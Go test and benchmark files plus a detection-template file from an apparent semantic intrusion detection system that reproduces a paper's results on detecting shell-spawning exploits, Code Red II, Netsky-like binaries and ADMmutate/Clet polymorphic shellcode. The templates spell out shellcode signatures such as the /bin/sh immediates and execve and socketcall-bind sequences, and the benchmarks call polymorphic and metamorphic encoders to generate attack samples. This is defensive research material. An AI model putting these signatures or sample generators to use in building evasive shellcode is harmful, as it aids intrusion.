	if err := e.Run(bytes.NewReader(trace)); err != nil {
		t.Fatal(err)
	}
	crii := 0
	for _, a := range e.Alerts() {
		if a.Detection.Template == "code-red-ii" {
			crii++
		}
	}
	if crii == 0 {
		t.Fatal("no code-red-ii alerts from Run")
	}
	first := len(e.Alerts())

	// The engine survives its first trace: replay the same capture
	// paced by timestamps (at a high speed factor so the test stays
	// fast) and every alert fires again.
	if err := e.Replay(bytes.NewReader(trace), 1e6); err != nil {
		t.Fatal(err)
	}
	if got := len(e.Alerts()); got != 2*first {
		t.Errorf("alerts after replay = %d, want %d", got, 2*first)
	}
	m := e.Stats()
	if m.Packets == 0 || m.StreamsAnalyzed == 0 {
		t.Errorf("engine metrics not populated: %+v", m)
	}
}

func TestEngineFacadeProcessFrameFlush(t *testing.T) {
	e, err := NewEngine(EngineConfig{
		Config: Config{
			Honeypots: []string{traffic.HoneypotAddr.String()},
			DarkSpace: []string{traffic.DarkNet.String()},
		},
		Shards: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer e.Stop()
	g := traffic.NewGen(7)
	exp := exploits.Table1Exploits()[0]
	for _, p := range g.ExploitAtHoneypot(netip.MustParseAddr("10.1.2.4"), exp.DstPort, exp.Payload) {
		if err := e.ProcessFrame(p.Serialize(), p.TimestampUS); err != nil {
			t.Fatal(err)
		}
	}
	e.Flush()
	found := false
	for _, a := range e.Alerts() {
		if a.Src == netip.MustParseAddr("10.1.2.4") {
			found = true
		}
	}
	if !found {
		t.Fatalf("exploit not detected through frame-by-frame engine feed: %v", e.Alerts())
	}

	if _, err := NewEngine(EngineConfig{Config: Config{Honeypots: []string{"not-an-ip"}}}); err == nil {
		t.Error("bad honeypot address accepted")
	}
}
