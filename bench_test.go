// Benchmarks regenerating the paper's evaluation (one bench per table
// or figure) plus component and ablation benchmarks for the design
// decisions called out in DESIGN.md. Run with:
//
//	go test -bench=. -benchmem
package nids

import (
	"fmt"
	"io"
	"net/netip"
	"sync"
	"testing"

	"semnids/internal/classify"
	"semnids/internal/core"
	"semnids/internal/emu"
	"semnids/internal/engine"
	"semnids/internal/exploits"
	"semnids/internal/extract"
	"semnids/internal/incident"
	"semnids/internal/ir"
	"semnids/internal/morph"
	"semnids/internal/netpkt"
	"semnids/internal/polymorph"
	"semnids/internal/reasm"
	"semnids/internal/sem"
	"semnids/internal/shellcode"
	"semnids/internal/sigmatch"
	"semnids/internal/telemetry"
	"semnids/internal/traffic"
	"semnids/internal/x86"
)

func coreCfg() core.Config {
	return core.Config{
		Classify: classify.Config{
			Honeypots:     []netip.Addr{traffic.HoneypotAddr},
			DarkSpace:     []netip.Prefix{traffic.DarkNet},
			ScanThreshold: 3,
		},
	}
}

// BenchmarkTable1ShellSpawn measures end-to-end analysis (extraction +
// disassembly + IR + template matching) per Table 1 exploit.
func BenchmarkTable1ShellSpawn(b *testing.B) {
	for _, e := range exploits.Table1Exploits() {
		b.Run(e.Name, func(b *testing.B) {
			b.SetBytes(int64(len(e.Payload)))
			for i := 0; i < b.N; i++ {
				ds := core.AnalyzePayload(e.Payload)
				if len(ds) == 0 {
					b.Fatal("exploit not detected")
				}
			}
		})
	}
}

// BenchmarkTable1Netsky measures the host-scan of a virus-sized (22 KB)
// binary — the paper reports ~6.5s on a P4 versus ~40s for [5].
func BenchmarkTable1Netsky(b *testing.B) {
	bin := exploits.NetskyBinary(1, 22*1024)
	b.SetBytes(int64(len(bin)))
	for i := 0; i < b.N; i++ {
		ds := core.AnalyzeBytes(bin, nil, nil)
		if len(ds) == 0 {
			b.Fatal("netsky decryptor not detected")
		}
	}
}

// BenchmarkTable1NetskyExhaustiveBaseline is the [5]-style whole-input
// scan: every disassembly offset, no pruning. Compare with
// BenchmarkTable1Netsky for the paper's ~6x efficiency claim.
func BenchmarkTable1NetskyExhaustiveBaseline(b *testing.B) {
	bin := exploits.NetskyBinary(1, 22*1024)
	offsets := make([]int, 16)
	for i := range offsets {
		offsets[i] = i
	}
	b.SetBytes(int64(len(bin)))
	for i := 0; i < b.N; i++ {
		core.AnalyzeBytes(bin, nil, offsets)
	}
}

// BenchmarkTable2ADMmutate measures semantic analysis of ADMmutate
// samples with the full template set (Table 2: 100/100).
func BenchmarkTable2ADMmutate(b *testing.B) {
	eng := polymorph.NewADMmutate(20060612)
	payload := shellcode.ClassicPush().Bytes
	samples := make([][]byte, 64)
	for i := range samples {
		s, _, err := eng.Encode(payload)
		if err != nil {
			b.Fatal(err)
		}
		samples[i] = s
	}
	a := sem.NewAnalyzer(sem.BuiltinTemplates())
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s := samples[i%len(samples)]
		if len(a.AnalyzeFrame(s)) == 0 {
			b.Fatal("sample not detected")
		}
	}
}

// BenchmarkTable2Clet measures semantic analysis of Clet samples with
// the xor template (Table 2: 100/100).
func BenchmarkTable2Clet(b *testing.B) {
	eng := polymorph.NewClet(1999)
	payload := shellcode.ClassicPush().Bytes
	samples := make([][]byte, 64)
	for i := range samples {
		s, _, err := eng.Encode(payload)
		if err != nil {
			b.Fatal(err)
		}
		samples[i] = s
	}
	a := sem.NewAnalyzer(sem.XorOnlyTemplates())
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s := samples[i%len(samples)]
		if len(a.AnalyzeFrame(s)) == 0 {
			b.Fatal("sample not detected")
		}
	}
}

// BenchmarkTable2IISASP measures the iis-asp-overflow analysis (paper:
// 2.14 s on the P4).
func BenchmarkTable2IISASP(b *testing.B) {
	e := exploits.IISASPOverflow()
	b.SetBytes(int64(len(e.Payload)))
	for i := 0; i < b.N; i++ {
		found := false
		for _, d := range core.AnalyzePayload(e.Payload) {
			if d.Template == "xor-decrypt-loop" {
				found = true
			}
		}
		if !found {
			b.Fatal("decryptor not detected")
		}
	}
}

// BenchmarkTable3CodeRedTrace runs the full pipeline over a Table 3
// style trace (benign background + Code Red II instances from scanning
// sources). Bytes/op reflects packet payload throughput.
func BenchmarkTable3CodeRedTrace(b *testing.B) {
	spec := traffic.TraceSpec{Seed: 3, BenignSessions: 400, CodeRedInstances: 3}
	pkts := traffic.Synthesize(spec)
	var total int64
	for _, p := range pkts {
		total += int64(len(p.Payload))
	}
	b.SetBytes(total)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		n := core.New(coreCfg())
		for _, p := range pkts {
			n.ProcessPacket(p)
		}
		n.Flush()
		crii := 0
		seen := map[netip.Addr]bool{}
		for _, a := range n.Alerts() {
			if a.Detection.Template == "code-red-ii" && !seen[a.Src] {
				seen[a.Src] = true
				crii++
			}
		}
		if crii != 3 {
			b.Fatalf("detected %d instances, want 3", crii)
		}
	}
}

// BenchmarkFalsePositiveScan measures §5.4 throughput: classification
// disabled, every benign payload analyzed; any alert fails the bench.
func BenchmarkFalsePositiveScan(b *testing.B) {
	g := traffic.NewGen(55)
	var pkts []*netpkt.Packet
	var total int64
	for i := 0; i < 300; i++ {
		for _, p := range g.BenignSession() {
			pkts = append(pkts, p)
			total += int64(len(p.Payload))
		}
	}
	b.SetBytes(total)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cfg := coreCfg()
		cfg.Classify.Disabled = true
		n := core.New(cfg)
		for _, p := range pkts {
			n.ProcessPacket(p)
		}
		n.Flush()
		if a := n.Alerts(); len(a) != 0 {
			b.Fatalf("false positives: %v", a)
		}
	}
}

// BenchmarkPipelineVsFullScan is the ablation for DESIGN.md decision 1
// (extraction pruning): the same mixed trace through the classified,
// extraction-pruned pipeline versus the everything-analyzed fullscan.
func BenchmarkPipelineVsFullScan(b *testing.B) {
	spec := traffic.TraceSpec{Seed: 4, BenignSessions: 200, CodeRedInstances: 2}
	pkts := traffic.Synthesize(spec)
	run := func(b *testing.B, fullScan bool) {
		for i := 0; i < b.N; i++ {
			cfg := coreCfg()
			cfg.FullScan = fullScan
			n := core.New(cfg)
			for _, p := range pkts {
				n.ProcessPacket(p)
			}
			n.Flush()
		}
	}
	b.Run("pruned-pipeline", func(b *testing.B) { run(b, false) })
	b.Run("fullscan-baseline", func(b *testing.B) { run(b, true) })
}

// BenchmarkPipelineParallelism is the ablation for DESIGN.md decision 5
// (concurrent analysis workers).
func BenchmarkPipelineParallelism(b *testing.B) {
	g := traffic.NewGen(66)
	var pkts []*netpkt.Packet
	for _, e := range exploits.Table1Exploits() {
		pkts = append(pkts, g.ExploitAtHoneypot(g.RandClient(), e.DstPort, e.Payload)...)
	}
	for _, workers := range []int{1, 2, 4} {
		b.Run(map[int]string{1: "workers-1", 2: "workers-2", 4: "workers-4"}[workers], func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				cfg := coreCfg()
				cfg.Workers = workers
				n := core.New(cfg)
				for _, p := range pkts {
					n.ProcessPacket(p)
				}
				n.Flush()
			}
		})
	}
}

// BenchmarkEngineThroughput measures streaming-engine packet
// throughput as shard count grows, over a mixed trace with
// classification disabled so every payload reaches a shard (the
// CPU-bound worst case). The engine is long-lived (Drain per
// iteration keeps it hot, as a live sensor runs), the verdict cache is
// disabled to measure raw analysis scaling rather than memoization,
// and each shard count runs twice: a single serial feeder (shards-N —
// ingestion-bound once shards outnumber the feeder) and one feeder
// goroutine per shard (shards-N/parallel — where shard scaling is
// actually observable).
func BenchmarkEngineThroughput(b *testing.B) {
	spec := traffic.TraceSpec{Seed: 9, BenignSessions: 120, CodeRedInstances: 2}
	pkts := traffic.Synthesize(spec)
	var total int64
	for _, p := range pkts {
		total += int64(len(p.Payload))
	}
	assertCRII := func(b *testing.B, e *engine.Engine) {
		b.StopTimer()
		crii := false
		for _, a := range e.Alerts() {
			if a.Detection.Template == "code-red-ii" {
				crii = true
			}
		}
		if !crii {
			b.Fatal("engine missed the trace's code-red-ii instances")
		}
	}
	for _, shards := range []int{1, 2, 4} {
		cfg := engine.Config{
			Classify:         classify.Config{Disabled: true},
			Shards:           shards,
			VerdictCacheSize: -1,
		}
		b.Run(fmt.Sprintf("shards-%d", shards), func(b *testing.B) {
			e := engine.New(cfg)
			defer e.Stop()
			b.SetBytes(total)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				for _, p := range pkts {
					e.Process(p)
				}
				e.Drain()
			}
			assertCRII(b, e)
		})
		b.Run(fmt.Sprintf("shards-%d/parallel", shards), func(b *testing.B) {
			e := engine.New(cfg)
			defer e.Stop()
			parts := make([][]*netpkt.Packet, shards)
			for _, p := range pkts {
				fi := engine.FlowHash(p.Flow(), shards)
				parts[fi] = append(parts[fi], p)
			}
			b.SetBytes(total)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				var wg sync.WaitGroup
				for fi := range parts {
					wg.Add(1)
					go func(part []*netpkt.Packet) {
						defer wg.Done()
						f := e.NewFeeder()
						for _, p := range part {
							f.Process(p)
						}
						f.Flush()
					}(parts[fi])
				}
				wg.Wait()
				e.Drain()
			}
			assertCRII(b, e)
		})
	}
}

// BenchmarkEngineThroughputUDP measures datagram-flow throughput: the
// IoT botnet trace (CoAP sensor chatter plus block-split exploit
// deliveries) with datagram flows on and classification disabled, so
// every datagram joins a buffered conversation. The tight idle window
// keeps conversation state from accumulating across iterations (the
// trace clock stops at trace end, so only the window bounds carryover).
// Detection is asserted — a run that stops reassembling the block
// transfer fails rather than reporting a flattering number.
func BenchmarkEngineThroughputUDP(b *testing.B) {
	pkts := traffic.IoTBotnet(traffic.IoTSpec{Seed: 9, Generations: 2, FanoutPerHost: 3, BenignSessions: 6})
	var total int64
	for _, p := range pkts {
		total += int64(len(p.Payload))
	}
	assertDecodeLoop := func(b *testing.B, e *engine.Engine) {
		b.StopTimer()
		for _, a := range e.Alerts() {
			if a.Detection.Template == "xor-decrypt-loop" {
				return
			}
		}
		b.Fatal("engine missed the block-split decryption loop")
	}
	for _, shards := range []int{1, 2, 4} {
		cfg := engine.Config{
			Classify:          classify.Config{Disabled: true},
			Shards:            shards,
			VerdictCacheSize:  -1,
			DatagramFlows:     true,
			DatagramIdleUS:    1e6,
			FlowIdleTimeoutUS: 60e6,
		}
		b.Run(fmt.Sprintf("shards-%d", shards), func(b *testing.B) {
			e := engine.New(cfg)
			defer e.Stop()
			b.SetBytes(total)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				for _, p := range pkts {
					e.Process(p)
				}
				e.Drain()
			}
			assertDecodeLoop(b, e)
		})
		b.Run(fmt.Sprintf("shards-%d/parallel", shards), func(b *testing.B) {
			e := engine.New(cfg)
			defer e.Stop()
			// Partition by the conversation-canonical key so each UDP
			// exchange stays on one feeder, preserving per-flow order.
			parts := make([][]*netpkt.Packet, shards)
			for _, p := range pkts {
				fi := engine.FlowHash(p.Flow().Canonical(), shards)
				parts[fi] = append(parts[fi], p)
			}
			b.SetBytes(total)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				var wg sync.WaitGroup
				for fi := range parts {
					wg.Add(1)
					go func(part []*netpkt.Packet) {
						defer wg.Done()
						f := e.NewFeeder()
						for _, p := range part {
							f.Process(p)
						}
						f.Flush()
					}(parts[fi])
				}
				wg.Wait()
				e.Drain()
			}
			assertDecodeLoop(b, e)
		})
	}
}

// BenchmarkEngineThroughputTelemetry is the telemetry-overhead
// ablation: the BenchmarkEngineThroughput serial workload with a
// registry attached and the Prometheus exposition rendered every
// iteration — a scrape cadence far denser than production. Compare
// shards-N here against shards-N in BenchmarkEngineThroughput: the
// delta is the full cost of instrumentation plus scraping, and must
// stay within noise (the acceptance budget is 3%).
func BenchmarkEngineThroughputTelemetry(b *testing.B) {
	spec := traffic.TraceSpec{Seed: 9, BenignSessions: 120, CodeRedInstances: 2}
	pkts := traffic.Synthesize(spec)
	var total int64
	for _, p := range pkts {
		total += int64(len(p.Payload))
	}
	for _, shards := range []int{1, 2, 4} {
		b.Run(fmt.Sprintf("shards-%d", shards), func(b *testing.B) {
			reg := telemetry.NewRegistry()
			e := engine.New(engine.Config{
				Classify:         classify.Config{Disabled: true},
				Shards:           shards,
				VerdictCacheSize: -1,
				Telemetry:        reg,
			})
			defer e.Stop()
			b.SetBytes(total)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				for _, p := range pkts {
					e.Process(p)
				}
				e.Drain()
				if err := telemetry.WritePrometheus(io.Discard, reg); err != nil {
					b.Fatal(err)
				}
			}
			b.StopTimer()
			if e.Snapshot().Packets == 0 {
				b.Fatal("engine processed nothing")
			}
		})
	}
}

// BenchmarkEngineVerdictCache is the ablation for the payload-
// fingerprint verdict cache: the same worm payload delivered from
// many sources, analyzed once when the cache is on and every time
// when it is off — the worm-outbreak shape the cache exists for.
func BenchmarkEngineVerdictCache(b *testing.B) {
	payload := exploits.Table1Exploits()[0].Payload
	const sources = 64
	run := func(b *testing.B, cacheSize int) {
		b.SetBytes(int64(len(payload)) * sources)
		for i := 0; i < b.N; i++ {
			e := engine.New(engine.Config{
				Classify:         classify.Config{Disabled: true},
				Shards:           1,
				VerdictCacheSize: cacheSize,
			})
			for s := 0; s < sources; s++ {
				e.Process(&netpkt.Packet{
					SrcIP: netip.AddrFrom4([4]byte{10, 2, byte(s >> 8), byte(s)}),
					DstIP: traffic.WebServer, SrcPort: uint16(1024 + s), DstPort: 80,
					Proto: netpkt.ProtoUDP, HasUDP: true,
					Payload: payload, TimestampUS: uint64(s) * 100,
				})
			}
			e.Stop()
			if got := len(e.Alerts()); got < sources {
				b.Fatalf("alerts = %d, want >= %d", got, sources)
			}
		}
	}
	b.Run("cached", func(b *testing.B) { run(b, 0) })
	b.Run("uncached", func(b *testing.B) { run(b, -1) })
}

// BenchmarkSigmatchBaseline measures the syntactic baseline for
// contrast: fast, but blind to the polymorphic workloads above.
func BenchmarkSigmatchBaseline(b *testing.B) {
	m := sigmatch.NewMatcher(sigmatch.DefaultSignatures())
	e := exploits.Table1Exploits()[0]
	b.SetBytes(int64(len(e.Payload)))
	for i := 0; i < b.N; i++ {
		if len(m.Match(e.Payload)) == 0 {
			b.Fatal("baseline missed cleartext exploit")
		}
	}
}

// BenchmarkAnalyzeFrameParallel measures semantic-analysis throughput
// with one long-lived analyzer shared by all workers over a mixed
// frame set — the shape of the production worker pool. The pooled
// scratch state must scale without contention or per-frame allocation.
func BenchmarkAnalyzeFrameParallel(b *testing.B) {
	eng := polymorph.NewADMmutate(31337)
	frames := make([][]byte, 0, 8)
	for i := 0; i < 4; i++ {
		s, _, err := eng.Encode(shellcode.ClassicPush().Bytes)
		if err != nil {
			b.Fatal(err)
		}
		frames = append(frames, s)
	}
	frames = append(frames,
		exploits.NetskyBinary(9, 4*1024),
		exploits.NetskyBinary(10, 4*1024),
	)
	var total int64
	for _, f := range frames {
		total += int64(len(f))
	}
	a := sem.NewAnalyzer(sem.BuiltinTemplates())
	b.SetBytes(total)
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			for _, f := range frames {
				if len(a.AnalyzeFrame(f)) == 0 {
					b.Fatal("frame not detected")
				}
			}
		}
	})
}

// BenchmarkAnalyzeFrameBenign measures the analyzer's allocation
// behavior on frames with nothing to detect — the dominant case on a
// live sensor, and the allocation-regression harness for the hot
// path: run with -benchmem and expect ~0 allocs/op in steady state.
func BenchmarkAnalyzeFrameBenign(b *testing.B) {
	frame := make([]byte, 4096)
	rng := uint32(0x9e3779b9)
	for i := range frame {
		rng = rng*1664525 + 1013904223
		frame[i] = byte(rng >> 24)
	}
	a := sem.NewAnalyzer(sem.BuiltinTemplates())
	b.SetBytes(int64(len(frame)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(a.AnalyzeFrame(frame)) != 0 {
			b.Fatal("benign frame detected")
		}
	}
}

// --- Component benchmarks ---

// BenchmarkDecode measures raw instruction decode throughput.
func BenchmarkDecode(b *testing.B) {
	code := exploits.NetskyBinary(2, 8*1024)
	b.SetBytes(int64(len(code)))
	for i := 0; i < b.N; i++ {
		x86.SweepAll(code)
	}
}

// BenchmarkDecodeCached measures the memoized multi-offset sweep the
// analyzer actually performs: four offsets over one frame through a
// reused DecodeCache, versus four independent naive sweeps.
func BenchmarkDecodeCached(b *testing.B) {
	code := exploits.NetskyBinary(2, 8*1024)
	b.Run("memoized", func(b *testing.B) {
		c := x86.NewDecodeCache(nil)
		b.SetBytes(int64(len(code)))
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			c.Reset(code)
			for off := 0; off < 4; off++ {
				c.Sweep(off)
			}
		}
	})
	b.Run("naive", func(b *testing.B) {
		b.SetBytes(int64(len(code)))
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			for off := 0; off < 4; off++ {
				x86.Sweep(code, off)
			}
		}
	})
}

// BenchmarkLift measures IR lifting (threading + constant propagation
// + def/use) throughput.
func BenchmarkLift(b *testing.B) {
	code := exploits.NetskyBinary(2, 8*1024)
	insts := x86.SweepAll(code)
	b.SetBytes(int64(len(code)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ir.Lift(insts)
	}
}

// BenchmarkTemplateMatch measures the matcher alone over a lifted
// polymorphic sample.
func BenchmarkTemplateMatch(b *testing.B) {
	eng := polymorph.NewADMmutate(9)
	sample, _, err := eng.Encode(shellcode.ClassicPush().Bytes)
	if err != nil {
		b.Fatal(err)
	}
	a := sem.NewAnalyzer(sem.BuiltinTemplates())
	b.SetBytes(int64(len(sample)))
	for i := 0; i < b.N; i++ {
		if len(a.AnalyzeFrame(sample)) == 0 {
			b.Fatal("not detected")
		}
	}
}

// BenchmarkExtract measures the binary detection and extraction stage
// over the Code Red II request.
func BenchmarkExtract(b *testing.B) {
	req := exploits.CodeRedIIRequest()
	b.SetBytes(int64(len(req)))
	for i := 0; i < b.N; i++ {
		if len(extract.Extract(req)) == 0 {
			b.Fatal("nothing extracted")
		}
	}
}

// BenchmarkExtractBenign measures the pruning fast-path: a benign
// request must be rejected cheaply.
func BenchmarkExtractBenign(b *testing.B) {
	req := []byte("GET /index.html HTTP/1.1\r\nHost: example.com\r\nAccept: */*\r\n\r\n")
	b.SetBytes(int64(len(req)))
	for i := 0; i < b.N; i++ {
		if len(extract.Extract(req)) != 0 {
			b.Fatal("benign extracted")
		}
	}
}

// BenchmarkReassembly measures TCP stream reassembly throughput.
func BenchmarkReassembly(b *testing.B) {
	g := traffic.NewGen(77)
	payload := make([]byte, 64*1024)
	for i := range payload {
		payload[i] = byte(i)
	}
	pkts := g.TCPSession(g.RandClient(), traffic.WebServer, 80, payload, nil)
	b.SetBytes(int64(len(payload)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		a := reasm.New()
		for _, p := range pkts {
			a.Feed(p)
		}
	}
}

// BenchmarkPolymorphEncode measures sample generation cost.
func BenchmarkPolymorphEncode(b *testing.B) {
	eng := polymorph.NewADMmutate(10)
	payload := shellcode.ClassicPush().Bytes
	for i := 0; i < b.N; i++ {
		if _, _, err := eng.Encode(payload); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkMorphMutate measures the metamorphic engine (decode,
// rewrite, relayout, branch fixup) over a corpus payload.
func BenchmarkMorphMutate(b *testing.B) {
	m := morph.New(10)
	payload := shellcode.ClassicPush().Bytes
	b.SetBytes(int64(len(payload)))
	for i := 0; i < b.N; i++ {
		if _, err := m.Mutate(payload); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkMorphedVariantDetection measures end-to-end analysis of
// metamorphic variants — template robustness at benchmark scale.
func BenchmarkMorphedVariantDetection(b *testing.B) {
	m := morph.New(11)
	payload := shellcode.ClassicPush().Bytes
	samples := make([][]byte, 32)
	for i := range samples {
		s, err := m.Mutate(payload)
		if err != nil {
			b.Fatal(err)
		}
		samples[i] = s
	}
	a := sem.NewAnalyzer(sem.BuiltinTemplates())
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		found := false
		for _, d := range a.AnalyzeFrame(samples[i%len(samples)]) {
			if d.Template == "linux-shell-spawn" {
				found = true
			}
		}
		if !found {
			b.Fatal("morphed variant missed")
		}
	}
}

// BenchmarkEmulateSample measures dynamic execution of a polymorphic
// sample to its execve (the validation tier's cost).
func BenchmarkEmulateSample(b *testing.B) {
	eng := polymorph.NewADMmutate(14)
	sample, _, err := eng.Encode(shellcode.ClassicPush().Bytes)
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(sample)))
	for i := 0; i < b.N; i++ {
		m := emu.New(sample)
		stop, err := m.Run(0)
		if err != nil || stop.Sysnum != 0xb {
			b.Fatalf("stop=%+v err=%v", stop, err)
		}
	}
}

// BenchmarkEmailWormScan measures SMTP attachment extraction plus
// analysis of a packed 16 KB attachment.
func BenchmarkEmailWormScan(b *testing.B) {
	g := traffic.NewGen(12)
	worm := exploits.NetskyBinary(4, 16*1024)
	pkts := g.InfectedMailSession(g.RandClient(), worm)
	var payload []byte
	for _, p := range pkts {
		if p.DstPort == 25 {
			payload = append(payload, p.Payload...)
		}
	}
	b.SetBytes(int64(len(payload)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		frames := extract.Extract(payload)
		if len(frames) == 0 {
			b.Fatal("attachment not extracted")
		}
		found := false
		for _, f := range frames {
			for _, d := range core.AnalyzeBytes(f.Data, nil, nil) {
				if d.Template == "xor-decrypt-loop" {
					found = true
				}
			}
		}
		if !found {
			b.Fatal("worm not detected")
		}
	}
}

// BenchmarkPcapWrite measures trace serialization.
func BenchmarkPcapWrite(b *testing.B) {
	pkts := traffic.Synthesize(traffic.TraceSpec{Seed: 8, BenignSessions: 50})
	var total int64
	for _, p := range pkts {
		total += int64(len(p.Payload))
	}
	b.SetBytes(total)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		w, err := netpkt.NewPcapWriter(discard{})
		if err != nil {
			b.Fatal(err)
		}
		for _, p := range pkts {
			if err := w.WritePacket(p); err != nil {
				b.Fatal(err)
			}
		}
	}
}

type discard struct{}

func (discard) Write(p []byte) (int, error) { return len(p), nil }

// BenchmarkCorrelator measures the incident path: a trace through the
// streaming engine with the correlator detached ("off" — the tap is a
// nil check on the hot path) and attached ("on" — events cross the
// bounded channel and drive the kill-chain state machines). Two
// workloads: "mixed" is the engine-throughput trace (benign-dominated,
// classification prunes most packets, so events are rare — the ≤5%
// overhead target applies here), and "outbreak" is the adversarial
// ceiling (a worm trace where every packet is selected and event
// density is maximal).
func BenchmarkCorrelator(b *testing.B) {
	ccfg := classify.Config{
		Honeypots:     []netip.Addr{traffic.HoneypotAddr},
		DarkSpace:     []netip.Prefix{traffic.DarkNet},
		ScanThreshold: 3,
	}
	run := func(b *testing.B, pkts []*netpkt.Packet, correlate, wantPropagation bool) {
		// Engine and correlator are long-lived (Drain keeps them hot
		// across traces), so setup sits outside the timed loop: the
		// measurement is the steady-state per-trace cost of the tap,
		// the event channel and the state machines.
		var total int64
		for _, p := range pkts {
			total += int64(len(p.Payload))
		}
		var corr *incident.Correlator
		ecfg := engine.Config{Classify: ccfg, Shards: 4}
		if correlate {
			corr = incident.New(incident.Config{})
			ecfg.OnEvent = corr.Publish
			defer corr.Stop()
		}
		e := engine.New(ecfg)
		defer e.Stop()
		// One work unit is several passes over the trace per drain, as
		// a live sensor drains rarely relative to traffic volume; this
		// keeps the per-drain barriers from dominating a short trace.
		const passes = 10
		b.SetBytes(total * passes)
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			for p := 0; p < passes; p++ {
				for _, pkt := range pkts {
					e.Process(pkt)
				}
			}
			e.Drain()
			if correlate {
				corr.Flush()
			}
		}
		b.StopTimer()
		if len(e.Alerts()) == 0 {
			b.Fatal("trace produced no alerts")
		}
		if wantPropagation {
			reached := false
			for _, inc := range corr.Incidents() {
				if inc.Stage == incident.StagePropagation {
					reached = true
				}
			}
			if !reached {
				b.Fatal("outbreak produced no PROPAGATION incident")
			}
		}
	}
	mixed := traffic.Synthesize(traffic.TraceSpec{Seed: 9, BenignSessions: 120, CodeRedInstances: 2})
	outbreak := traffic.WormOutbreak(traffic.WormSpec{Seed: 7, Generations: 2, FanoutPerHost: 2, BenignSessions: 6})
	b.Run("mixed/off", func(b *testing.B) { run(b, mixed, false, false) })
	b.Run("mixed/on", func(b *testing.B) { run(b, mixed, true, false) })
	b.Run("outbreak/off", func(b *testing.B) { run(b, outbreak, false, false) })
	b.Run("outbreak/on", func(b *testing.B) { run(b, outbreak, true, true) })
}
