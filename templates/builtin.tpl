template xor-decrypt-loop severity=high
  desc polymorphic decryption loop (xor/add/sub over memory with pointer advance and back edge)
  memxform [A] ops=xor,add,sub key=B size=1
  advance A delta=1..4
  backedge

template admmutate-alt-decode-loop severity=high
  desc alternate ADMmutate decoder: mov/or/and/not sequence over a memory location and register pair
  memload [A] reg=R size=1
  regxform ops=mov,or,and,not rep=2..12
  memstore [A] size=1
  advance A delta=1..4
  backedge

template linux-shell-spawn severity=critical
  desc Linux shell spawning: /bin/sh pushed as immediates, then execve (int 0x80, eax=0xb)
  const 0x6e69622f,0x68732f2f,0x68732f6e
  syscall 0xb

template linux-shell-spawn severity=critical
  desc Linux shell spawning: literal /bin/sh string in frame, then execve (int 0x80, eax=0xb)
  framedata "/bin/sh"
  syscall 0xb

template port-bind-shell severity=critical
  desc shell bound to a separate port: socketcall bind before execve
  syscall 0x66 ebx=2
  syscall 0xb

template code-red-ii severity=critical
  desc Code Red II exploitation vector: indirect transfer through an msvcrt.dll address
  constrange R 0x78000000..0x78200000
  indirect R
