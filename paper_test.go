// Paper-experiment regression tests: compact versions of every
// Section 5 experiment, asserting the paper's qualitative results on
// every `go test` run. The full-scale versions live in
// cmd/papertables.
package nids

import (
	"net/netip"
	"testing"

	"semnids/internal/classify"
	"semnids/internal/core"
	"semnids/internal/exploits"
	"semnids/internal/polymorph"
	"semnids/internal/sem"
	"semnids/internal/shellcode"
	"semnids/internal/traffic"
)

// TestTable1AllExploitsDetected: all eight shell-spawning exploits are
// detected; exactly the two port-binding payloads are noted as such.
func TestTable1AllExploitsDetected(t *testing.T) {
	exps := exploits.Table1Exploits()
	if len(exps) != 8 {
		t.Fatalf("%d exploits, want 8", len(exps))
	}
	binds := 0
	for _, e := range exps {
		got := map[string]bool{}
		for _, d := range AnalyzePayload(e.Payload) {
			got[d.Template] = true
		}
		if !got["linux-shell-spawn"] {
			t.Errorf("%s: not detected", e.Name)
		}
		if got["port-bind-shell"] {
			binds++
			if !e.BindsPort {
				t.Errorf("%s: spurious port-bind note", e.Name)
			}
		} else if e.BindsPort {
			t.Errorf("%s: port binding missed", e.Name)
		}
	}
	if binds != 2 {
		t.Errorf("%d port-binding exploits noted, want 2", binds)
	}
}

// TestTable1NetskyDetected: the virus-sized binaries are flagged by the
// decryption-loop template in host-scan mode.
func TestTable1NetskyDetected(t *testing.T) {
	for seed := int64(1); seed <= 2; seed++ {
		found := false
		for _, d := range AnalyzeBytes(exploits.NetskyBinary(seed, 22*1024)) {
			if d.Template == "xor-decrypt-loop" {
				found = true
			}
		}
		if !found {
			t.Errorf("netsky variant %d not detected", seed)
		}
	}
}

// TestTable2DetectionStep: the xor-only template set misses exactly
// the alternate-scheme ADMmutate samples; the full set catches all.
func TestTable2DetectionStep(t *testing.T) {
	payload := shellcode.ClassicPush().Bytes
	eng := polymorph.NewADMmutate(777)
	xorOnly := sem.NewAnalyzer(sem.XorOnlyTemplates())
	full := sem.NewAnalyzer(sem.BuiltinTemplates())
	const n = 40
	xorHits, fullHits, alt := 0, 0, 0
	for i := 0; i < n; i++ {
		s, meta, err := eng.Encode(payload)
		if err != nil {
			t.Fatal(err)
		}
		if meta.Scheme == polymorph.SchemeXnor {
			alt++
		}
		if decryptorIn(xorOnly.AnalyzeFrame(s)) {
			xorHits++
		}
		if decryptorIn(full.AnalyzeFrame(s)) {
			fullHits++
		}
	}
	if fullHits != n {
